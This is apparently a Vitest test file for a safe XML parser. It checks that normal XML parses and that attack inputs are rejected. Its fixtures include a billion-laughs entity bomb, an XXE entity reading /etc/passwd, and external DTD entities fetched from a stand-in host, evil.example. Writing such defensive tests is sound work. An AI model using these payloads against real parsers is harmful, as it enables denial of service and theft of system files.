import { describe, expect, it } from 'vitest';
import { parseXml, XmlRejected } from './xml-parser';
import { path, textOf } from './xml-query';

const reasonOf = (xml: string) => {
  try {
    parseXml(xml);
    return 'parsed';
  } catch (error) {
    return error instanceof XmlRejected ? error.reason : `other: ${String(error)}`;
  }
};

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`;

describe('parseXml', () => {
  it('reads elements, attributes, text, CDATA and the predefined entities', () => {
    const root = parseXml(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
<!-- a comment -->
<cXML payloadID="1@x" xml:lang='sv'>
  <A b="&lt;&amp;&quot;&#65;&#x42;"><![CDATA[https://x/?a=1&b=<2>]]></A>
  <B>Å &amp; Ö&apos;<?pi ignored?></B>
  <C/>
</cXML>`);
    expect(root.name).toBe('cXML');
    expect(root.attributes).toEqual({ payloadID: '1@x', 'xml:lang': 'sv' });
    expect(path(root, 'A')?.attributes['b']).toBe('<&"AB');
    expect(textOf(path(root, 'A'))).toBe('https://x/?a=1&b=<2>');
    expect(textOf(path(root, 'B'))).toBe("Å & Ö'");
    expect(path(root, 'C')?.children).toEqual([]);
  });

  it.each([
    ['billion laughs', BILLION_LAUGHS, 'dtd_not_allowed'],
    ['external entity (XXE)', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'dtd_not_allowed'],
    ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><foo/>', 'dtd_not_allowed'],
    ['entity from an external DTD', '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo>&xxe;</foo>', 'entity_not_allowed'],
    ['undeclared entity', '<foo>&nbsp;</foo>', 'entity_not_allowed'],
    ['entity in an attribute', '<foo a="&xxe;"/>', 'entity_not_allowed'],
    ['two DOCTYPEs', '<!DOCTYPE a SYSTEM "a"><!DOCTYPE b SYSTEM "b"><a/>', 'dtd_not_allowed'],
    ['ENTITY in content', '<a><!ENTITY x "y"></a>', 'dtd_not_allowed'],
    ['bare ampersand', '<a>fish & chips</a>', 'malformed'],
    ['NUL character reference', '<a>&#0;</a>', 'malformed'],
    ['mismatched end tag', '<a><b></a></b>', 'malformed'],
    ['unclosed root', '<a><b/>', 'malformed'],
    ['two roots', '<a/><b/>', 'malformed'],
    ['duplicate attribute', '<a x="1" x="2"/>', 'malformed'],
    ['unquoted attribute', '<a x=1/>', 'malformed'],
    ['< in an attribute', '<a x="<"/>', 'malformed'],
    ['text only', 'hello', 'malformed'],
    ['too deep', '<a>'.repeat(40) + '</a>'.repeat(40), 'too_deep'],
    ['too many nodes', `<a>${'<b/>'.repeat(6000)}</a>`, 'too_many_nodes'],
    ['too large', `<a>${'x'.repeat(200 * 1024)}</a>`, 'too_large'],
  ])('refuses %s', (_name, xml, reason) => {
    expect(reasonOf(xml)).toBe(reason);
  });

  it('answers a billion-laughs payload at once, without expanding anything', () => {
    const started = performance.now();
    expect(reasonOf(BILLION_LAUGHS)).toBe('dtd_not_allowed');
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
